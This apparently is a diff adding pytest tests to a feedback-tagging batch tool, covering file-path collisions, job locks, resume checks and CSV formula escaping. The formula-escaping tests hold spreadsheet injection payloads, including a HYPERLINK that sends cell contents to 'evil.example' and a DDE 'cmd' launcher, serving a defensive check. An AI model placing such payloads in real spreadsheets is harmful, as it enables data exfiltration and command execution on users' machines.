@@ -3,13 +3,18 @@ import signal
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
 import pytest
 
-from feedback_nlp import InvalidInputError
+import feedback_nlp.batch as batch
+from conftest import HashEmbedder
+from feedback_nlp import ColumnError, InvalidInputError
+from feedback_nlp._lock import JobLock
 from feedback_nlp.batch import ProgressReporter, tag_file
+from feedback_nlp.errors import JobLockedError, UsageError
 from feedback_nlp.records import read_table, write_table
 from feedback_nlp.tagging import TagClassifier
 
@@ -84,10 +89,10 @@ def test_interrupted_run_needs_resume(model_dir, backlog, tmp_path, cache_path):
         tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False, chunk_hook=boom)
     with pytest.raises(InvalidInputError, match="--resume"):
         tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False)
-    with pytest.raises(InvalidInputError, match="different job"):
+    with pytest.raises(InvalidInputError, match=r"--chunk-size \(300 -> 999\) changed"):
         tag_file(model_dir, backlog, out, chunk_size=999, cache=cache_path, progress=False, resume=True)
     other = "torch" if read_json_backend(out) != "torch" else "torch-bf16"
-    with pytest.raises(InvalidInputError, match="embedding changed"):  # another backend: never mixed in one output
+    with pytest.raises(InvalidInputError, match="the embedding model or backend"):  # another backend: never mixed in one output
         tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False, resume=True, backend=other)
     summary = tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False, resume=True)
     assert summary.chunks_reused == 3
@@ -187,3 +192,282 @@ def test_workers_use_the_backend_the_driver_resolved(model_dir, backlog, monkeyp
     assert seen[0] is None and set(seen[1:]) == {driver} and len(seen) >= 4  # client probe, then 3 partitions
     clf = real(str(model_dir), False, "torch")
     assert clf.embedder_.backend == "torch" and clf is not real(str(model_dir), False, "onnx-int8")
+
+
+# --- jobs: paths, locks, resume fingerprints, atomic outputs (fast: a hashed-words embedder) ---------------
+
+
+WORDS = ["export", "csv", "fails", "dark", "mode", "please", "billing", "invoice", "wrong", "login", "sso", "broken"]
+
+
+class FastJob:
+    """A saved model folder whose loads return a classifier on hashed words (no network, no torch)."""
+
+    def __init__(self, folder, monkeypatch):
+        self.folder = folder
+        self.clf = None
+        self.train(seed=0)
+        monkeypatch.setattr(batch, "load_model_cached", lambda model, cache=True, backend=None: self.clf)
+
+    def train(self, seed):
+        rng = np.random.default_rng(seed)
+        texts = [" ".join(rng.choice(WORDS, 4)) for _ in range(60)]
+        labels = ["bug" if ("fails" in t or "broken" in t) else "billing" if "invoice" in t else "feature" for t in texts]
+        self.clf = TagClassifier(HashEmbedder()).fit(texts, labels)
+        self.clf.save(self.folder)
+
+    def run(self, inp, out, **kw):
+        kw.setdefault("chunk_size", 50)
+        return tag_file(self.folder, inp, out, cache=False, progress=False, **kw)
+
+
+@pytest.fixture
+def job(tmp_path, monkeypatch):
+    return FastJob(tmp_path / "model", monkeypatch)
+
+
+def _backlog(path, n=400, pad=0, first_text=None):
+    rng = np.random.default_rng(1)
+    texts = [" ".join(rng.choice(WORDS, 5)) + (" filler" * pad) for _ in range(n)]
+    if first_text is not None:
+        texts[0] = first_text
+    pd.DataFrame({"id": [f"r{i}" for i in range(n)], "text": texts}).to_csv(path, index=False)
+    return path
+
+
+def _stop_after(n):
+    def hook(index):
+        if index == n:
+            raise KeyboardInterrupt
+    return hook
+
+
+def _leftovers(folder):
+    return sorted(p.name for p in folder.iterdir())
+
+
+@pytest.mark.parametrize("how", ["same", "relative", "symlink", "hardlink"])
+def test_output_that_is_the_input_is_refused_before_anything_is_written(job, tmp_path, monkeypatch, how):
+    inp = _backlog(tmp_path / "in.csv")
+    before = inp.read_bytes()
+    out = {"same": inp, "relative": Path("sub/../in.csv"), "symlink": tmp_path / "link.csv",
+           "hardlink": tmp_path / "hard.csv"}[how]
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "sub").mkdir()
+    if how == "symlink":
+        out.symlink_to(inp)
+    if how == "hardlink":
+        os.link(inp, out)
+    listing = _leftovers(tmp_path)
+    with pytest.raises(UsageError, match="are the same file"):
+        job.run(inp, out)
+    assert inp.read_bytes() == before and _leftovers(tmp_path) == listing
+
+
+def test_errors_file_equal_to_output_or_input_is_refused(job, tmp_path):
+    inp = _backlog(tmp_path / "in.csv")
+    listing = _leftovers(tmp_path)
+    with pytest.raises(UsageError, match="the output .* and the errors file .* are the same file"):
+        job.run(inp, tmp_path / "t.csv", errors_path=tmp_path / "t.csv")
+    with pytest.raises(UsageError, match="the input .* and the errors file"):
+        job.run(inp, tmp_path / "t.csv", errors_path=tmp_path / "./in.csv")
+    with pytest.raises(UsageError, match="parts folder"):  # the errors file would be written into the parts folder's place
+        job.run(inp, tmp_path / "t.csv", errors_path=tmp_path / "t.csv.parts")
+    assert _leftovers(tmp_path) == listing
+
+
+def test_failed_start_leaves_nothing_and_the_corrected_rerun_works(job, tmp_path):
+    inp = tmp_path / "in.csv"
+    pd.DataFrame({"id": ["1", "2"], "body": ["export fails", "dark mode"]}).to_csv(inp, index=False)
+    listing = _leftovers(tmp_path)
+    with pytest.raises(ColumnError, match="'text'"):
+        job.run(inp, tmp_path / "t.csv")
+    assert _leftovers(tmp_path) == listing  # no parts folder, no lock, no output
+    summary = job.run(inp, tmp_path / "t.csv", text_col="body")  # no --resume needed
+    assert summary.rows_out == 2 and _leftovers(tmp_path) == sorted([*listing, "t.csv", "t.errors.csv"])
+
+
+def test_resume_refuses_an_input_changed_in_the_middle_with_the_same_size(job, tmp_path):
+    # 2.4 MB: the change sits between the first and the last megabyte, where a head+tail hash is blind
+    inp = _backlog(tmp_path / "in.csv", n=600, pad=600)
+    out = tmp_path / "t.parquet"
+    with pytest.raises(KeyboardInterrupt):
+        job.run(inp, out, chunk_size=200, chunk_hook=_stop_after(1))
+    data = bytearray(inp.read_bytes())
+    assert len(data) > 2_300_000
+    at = data.index(b"filler", 1_200_000)
+    data[at:at + 6] = b"FILLER"  # same size, one chunk already tagged
+    inp.write_bytes(bytes(data))
+    with pytest.raises(InvalidInputError, match=r"input file changed .*chunk 1, rows 20[0-9]-"):
+        job.run(inp, out, chunk_size=200, resume=True)
+    assert not out.exists()
+
+
+def test_resume_refuses_a_retrained_model_naming_it(job, tmp_path):
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.csv"
+    with pytest.raises(KeyboardInterrupt):
+        job.run(inp, out, chunk_hook=_stop_after(2))
+    import shutil
+
+    shutil.copytree(job.folder, tmp_path / "original")
+    kept = job.clf
+    job.train(seed=1)  # same folder, same path: new weights
+    with pytest.raises(InvalidInputError, match="the model folder's files \\(retrained or replaced\\) changed"):
+        job.run(inp, out, resume=True)
+    shutil.rmtree(job.folder)
+    shutil.copytree(tmp_path / "original", job.folder)  # the very same files again: resume reuses the chunks
+    job.clf = kept
+    summary = job.run(inp, out, resume=True)
+    assert summary.chunks_reused == 3 and summary.rows_in == 400 == summary.rows_out
+
+
+def test_resume_refuses_changed_options_naming_them(job, tmp_path):
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.csv"
+    with pytest.raises(KeyboardInterrupt):
+        job.run(inp, out, chunk_hook=_stop_after(1))
+    with pytest.raises(InvalidInputError, match="the text length limit"):
+        job.run(inp, out, resume=True, max_chars=100)
+    with pytest.raises(InvalidInputError, match="--id-col"):
+        job.run(inp, out, resume=True, id_col=None)
+    (out.with_name("t.csv.parts") / "manifest.json").write_text("{not json")
+    with pytest.raises(InvalidInputError, match="no readable manifest.json"):
+        job.run(inp, out, resume=True)
+
+
+def test_a_second_run_on_the_same_output_is_refused_naming_pid_and_host(job, tmp_path):
+    import socket
+
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.csv"
+    with JobLock(batch.lock_path(out)), pytest.raises(JobLockedError,
+                                                      match=f"pid {os.getpid()} on host {socket.gethostname()}"):
+        job.run(inp, out, resume=True)
+    assert job.run(inp, out).rows_out == 400
+    assert not batch.lock_path(out).exists()
+
+
+def test_concurrent_resume_is_refused_while_the_first_runs(job, tmp_path):
+    import threading
+
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.csv"
+    with pytest.raises(KeyboardInterrupt):
+        job.run(inp, out, chunk_hook=_stop_after(1))
+    paused, release, result = threading.Event(), threading.Event(), {}
+
+    def slow(index):
+        paused.set()
+        release.wait(30)
+
+    def first():
+        result["summary"] = job.run(inp, out, resume=True, chunk_hook=slow)
+
+    t = threading.Thread(target=first)
+    t.start()
+    assert paused.wait(30)
+    try:
+        with pytest.raises(JobLockedError, match="another run is already"):
+            job.run(inp, out, resume=True)
+    finally:
+        release.set()
+        t.join(60)
+    assert result["summary"].rows_in == 400 == result["summary"].rows_out
+
+
+def test_a_stale_lock_of_a_killed_run_is_taken_over_on_resume(job, tmp_path, caplog):
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.csv"
+    with pytest.raises(KeyboardInterrupt):
+        job.run(inp, out, chunk_hook=_stop_after(1))
+    code = ("import sys, time; from feedback_nlp._lock import JobLock; "
+            f"l = JobLock({str(batch.lock_path(out))!r}).__enter__(); print('held', flush=True); time.sleep(120)")
+    holder = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE,
+                              env={**os.environ, "PYTHONPATH": str(Path(batch.__file__).parents[1])})
+    assert holder.stdout.readline().strip() == b"held"
+    with pytest.raises(JobLockedError, match=f"pid {holder.pid} "):
+        job.run(inp, out, resume=True)
+    holder.kill()  # SIGKILL: the lock file stays behind
+    holder.wait()
+    assert batch.lock_path(out).exists()
+    with caplog.at_level("WARNING", logger="feedback_nlp.batch"):
+        summary = job.run(inp, out, resume=True)
+    assert summary.chunks_reused == 2 and summary.rows_out == 400
+    assert f"pid {holder.pid}" in caplog.text and "took over" in caplog.text
+
+
+def test_a_failed_merge_leaves_no_partial_outputs(job, tmp_path, monkeypatch):
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.csv"
+    real = batch._merge_parts
+
+    def failing(parts, target, columns, fmt, raw_csv=False):
+        if "errors" in Path(target).name:
+            raise OSError(28, "No space left on device", str(target))
+        return real(parts, target, columns, fmt, raw_csv)
+
+    monkeypatch.setattr(batch, "_merge_parts", failing)
+    with pytest.raises(OSError, match="No space"):
+        job.run(inp, out)
+    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]
+    monkeypatch.setattr(batch, "_merge_parts", real)
+    assert job.run(inp, out, resume=True).rows_out == 400  # the finished parts were kept for the resume
+
+
+def test_probabilities_are_a_map_in_parquet_and_jsonl_and_json_text_in_csv(job, tmp_path):
+    import json
+
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    inp = _backlog(tmp_path / "in.csv", n=60)
+    job.run(inp, tmp_path / "t.parquet")
+    field = pq.read_schema(tmp_path / "t.parquet").field("probabilities")
+    assert pa.types.is_map(field.type) and field.type.item_type == pa.float64()
+    job.run(inp, tmp_path / "t.jsonl")
+    first = json.loads((tmp_path / "t.jsonl").read_text().splitlines()[0])
+    assert isinstance(first["probabilities"], dict) and first["probabilities"]
+    assert all(isinstance(v, float) for v in first["probabilities"].values())
+    job.run(inp, tmp_path / "t.csv")
+    cell = pd.read_csv(tmp_path / "t.csv")["probabilities"].iloc[0]
+    assert json.loads(cell) == first["probabilities"]
+
+
+def test_csv_outputs_neutralise_formulas_unless_raw(job, tmp_path):
+    inp = tmp_path / "in.csv"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    pd.DataFrame({"id": [evil, "+1-cmd", "@SUM(1)", "-5", "", "-A1*2"],
+                  "text": ["export fails", "dark mode", "sso broken", "billing wrong", "=cmd|' /C calc'!A0", "login"]}
+                 ).to_csv(inp, index=False)
+    summary = job.run(inp, tmp_path / "t.csv")
+    ids = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)["id"].tolist()
+    assert ids == ["'" + evil, "'+1-cmd", "'@SUM(1)", "-5", "'-A1*2"]  # a plain number stays a number
+    errors = pd.read_csv(summary.errors, dtype=str, keep_default_na=False)
+    assert errors["text"].tolist() == ["'=cmd|' /C calc'!A0"]
+    job.run(inp, tmp_path / "raw.csv", raw_csv=True)
+    assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["id"].iloc[0] == evil
+
+
+def test_parts_reused_only_when_every_chunk_matches(job, tmp_path):
+    inp = _backlog(tmp_path / "in.csv")
+    out = tmp_path / "t.parquet"
+    with pytest.raises(KeyboardInterrupt):
+        job.run(inp, out, chunk_hook=_stop_after(3))
+    summary = job.run(inp, out, resume=True)
+    full = job.run(inp, tmp_path / "fresh.parquet")
+    pd.testing.assert_frame_equal(pd.read_parquet(out), pd.read_parquet(tmp_path / "fresh.parquet"))
+    assert summary.chunks_reused == 4 and full.chunks_reused == 0
+
+
+def test_write_table_neutralises_every_formula_start_and_headers(tmp_path):
+    df = pd.DataFrame({"=evil": ["=1+1", "+1", "-1+1", "@a", "\tx", "\rx", "-12.5", "1e3", "fine", None],
+                       "n": range(10)})
+    write_table(df, tmp_path / "a.csv")
+    back = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
+    assert list(back.columns) == ["'=evil", "n"]
+    assert back["'=evil"].tolist() == ["'=1+1", "+1", "'-1+1", "'@a", "'\tx", "'\rx", "-12.5", "1e3", "fine", ""]
+    write_table(df, tmp_path / "raw.csv", raw_csv=True)
+    assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["=evil"].iloc[0] == "=1+1"
+    write_table(df, tmp_path / "a.parquet")  # other formats keep the values as they are
+    assert pd.read_parquet(tmp_path / "a.parquet")["=evil"].iloc[0] == "=1+1"
